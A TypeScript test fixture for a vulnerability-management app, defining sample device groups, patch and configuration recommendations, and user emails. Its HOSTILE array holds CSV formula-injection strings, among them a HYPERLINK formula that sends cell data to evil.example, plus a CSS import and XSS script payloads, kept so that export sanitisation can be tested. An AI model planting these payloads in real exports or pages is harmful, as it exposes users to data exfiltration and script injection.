import type { RecommendationCategory, RemediationType } from '../../core/index.ts';

/**
 * The fixed cast of the sample tenant: device groups, OS mix, recommendations with the vendor's id
 * forms, people, and the hostile strings every export and page must survive.
 */

export interface GroupSpec {
  readonly name: string;
  readonly weight: number;
  readonly servers: boolean;
  readonly prefix: string;
}

export const GROUPS: readonly GroupSpec[] = [
  { name: 'Finance', weight: 12, servers: false, prefix: 'fin' },
  { name: 'Engineering', weight: 22, servers: false, prefix: 'eng' },
  { name: 'Sales & "Marketing"', weight: 14, servers: false, prefix: 'sal' },
  { name: '研发中心 (Shanghai)', weight: 10, servers: false, prefix: 'sha' },
  { name: 'Kiosks', weight: 5, servers: false, prefix: 'kio' },
  { name: 'Servers-Prod', weight: 9, servers: true, prefix: 'srv' },
  { name: 'Servers-Dev', weight: 6, servers: true, prefix: 'dev' },
  { name: 'UnassignedGroup', weight: 4, servers: false, prefix: 'pc' },
];

export const WORKSTATION_OS: readonly (readonly [string, number])[] = [
  ['Windows10', 50],
  ['Windows11', 38],
  ['macOS', 7],
  ['Linux', 5],
];
export const SERVER_OS: readonly (readonly [string, number])[] = [
  ['WindowsServer2016', 15],
  ['WindowsServer2019', 35],
  ['WindowsServer2022', 35],
  ['Linux', 15],
];

export interface RecommendationSpec {
  readonly id: string;
  readonly productName: string;
  readonly vendor: string;
  readonly name: string;
  readonly component: string;
  readonly recommendedVersion: string;
  readonly category: RecommendationCategory;
  readonly subCategory: string;
  readonly remediationType: RemediationType;
  /** Share of applicable devices exposed at the start. */
  readonly prevalence: number;
  readonly os: (os: string) => boolean;
  readonly weaknesses: number;
  readonly publicExploit: boolean;
  readonly severity: 'Low' | 'Medium' | 'High' | 'Critical';
}

const windows = (os: string) => os.startsWith('Windows');
const workstationWindows = (os: string) => os === 'Windows10' || os === 'Windows11';

const software = (
  vendor: string,
  product: string,
  name: string,
  component: string,
  version: string,
  prevalence: number,
  os: (os: string) => boolean,
  weaknesses: number,
  severity: RecommendationSpec['severity'],
  remediationType: RemediationType = 'Update',
): RecommendationSpec => ({
  id: `va-_-${vendor}-_-${product}`,
  productName: product,
  vendor,
  name,
  component,
  recommendedVersion: version,
  category: 'Application',
  subCategory: '',
  remediationType,
  prevalence,
  os,
  weaknesses,
  publicExploit: weaknesses > 40,
  severity,
});

const configuration = (
  scid: number,
  name: string,
  category: RecommendationCategory,
  subCategory: string,
  prevalence: number,
  os: (os: string) => boolean,
): RecommendationSpec => ({
  id: `sca-_-scid-${scid}`,
  productName: '',
  vendor: '',
  name,
  component: subCategory,
  recommendedVersion: '',
  category,
  subCategory,
  remediationType: 'ConfigurationChange',
  prevalence,
  os,
  weaknesses: 0,
  publicExploit: false,
  severity: 'Medium',
});

export const RECOMMENDATIONS: readonly RecommendationSpec[] = [
  software(
    'google',
    'chrome',
    'Update Google Chrome to version 131.0.6778.86',
    'Chrome',
    '131.0.6778.86',
    0.45,
    windows,
    212,
    'Critical',
  ),
  software(
    'microsoft',
    'edge_chromium-based',
    'Update Microsoft Edge Chromium-based to version 131.0.2903.70',
    'Edge Chromium-based',
    '131.0.2903.70',
    0.5,
    windows,
    176,
    'High',
  ),
  software(
    'oracle',
    'jre',
    'Update Oracle Jre to version 8.0.431',
    'Java Runtime Environment',
    '8.0.431',
    0.12,
    () => true,
    64,
    'High',
  ),
  software(
    'mozilla',
    'firefox',
    'Update Mozilla Firefox to version 133.0',
    'Firefox',
    '133.0',
    0.12,
    (os) => os !== 'Linux',
    38,
    'High',
  ),
  software(
    'adobe',
    'acrobat_reader_dc',
    'Update Adobe Acrobat Reader DC to version 24.5.20320',
    'Acrobat Reader DC',
    '24.5.20320',
    0.15,
    workstationWindows,
    27,
    'Medium',
  ),
  software(
    '7-zip',
    '7-zip',
    'Update 7-zip to version 24.8.0.0',
    '7-zip',
    '24.8.0.0',
    0.1,
    windows,
    4,
    'Medium',
  ),
  software(
    'microsoft',
    'silverlight',
    'Uninstall Microsoft Silverlight',
    'Microsoft Silverlight',
    '',
    0.03,
    workstationWindows,
    55,
    'Critical',
    'Uninstall',
  ),
  software(
    'videolan',
    'vlc_media_player',
    'Update Videolan Vlc Media Player to version 3.0.21.0',
    'VLC media player',
    '3.0.21.0',
    0.06,
    workstationWindows,
    9,
    'Low',
  ),
  software(
    'microsoft',
    'windows_10',
    'Update Windows 10 (OS and built-in applications)',
    'Windows 10',
    '10.0.19045.5247',
    0.3,
    (os) => os === 'Windows10',
    312,
    'Critical',
  ),
  software(
    'microsoft',
    'windows_server_2016',
    'Update Windows Server 2016',
    'Windows Server 2016',
    '10.0.14393.7606',
    0.5,
    (os) => os === 'WindowsServer2016',
    288,
    'Critical',
  ),
  software(
    'openssl',
    'openssl',
    'Update Openssl to version 3.0.15',
    'OpenSSL',
    '3.0.15',
    0.4,
    (os) => os === 'Linux',
    21,
    'High',
  ),
  software(
    'apple',
    'safari',
    'Update Apple Safari to version 18.1',
    'Safari',
    '18.1',
    0.35,
    (os) => os === 'macOS',
    17,
    'Medium',
  ),
  configuration(
    2010,
    'Turn on Microsoft Defender Antivirus PUA protection in block mode',
    'SecurityControls',
    'Antivirus',
    0.1,
    windows,
  ),
  configuration(
    2011,
    'Update Microsoft Defender Antivirus definitions',
    'SecurityControls',
    'Antivirus',
    0.06,
    windows,
  ),
  configuration(90, "Disable 'Autoplay' for all drives", 'OS', 'Autoplay', 0.12, workstationWindows),
  configuration(4002, 'Disable SMBv1 client driver', 'Network', 'SMB', 0.05, windows),
  configuration(1001, 'Enable Microsoft Defender Firewall', 'Network', 'Firewall', 0.04, windows),
  configuration(
    5001,
    "Set 'Minimum password length' to '14 or more character(s)'",
    'Accounts',
    'Password policy',
    0.08,
    windows,
  ),
];

export const REQUESTERS: readonly string[] = [
  'alice.martin@contoso.com',
  'bo.chen@contoso.com',
  'carla.diaz@contoso.com',
  'dev.patel@contoso.com',
];
export const ADMIN = 'secops-admin@contoso.com';

/** Formula prefixes, markup, quotes, separators, newlines and CJK text: what exports must neutralise. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3 (negative, not a formula)',
  '@import url(evil.css)',
  '<script>alert("xss")</script><img src=x onerror=alert(1)>',
  'Said "patch it", then didn\'t; a, b, c',
  'First line\nSecond line\r\nThird line',
  '请在周五前完成修正，谢谢。Tab\there.',
];

export const NOTES: readonly string[] = [
  'Please patch during the next maintenance window.',
  'Vendor confirmed the fix; roll out with the monthly update ring.',
  'Coordinate with the application owners before restarting servers.',
  'Pilot group first, then everyone.',
  '',
];
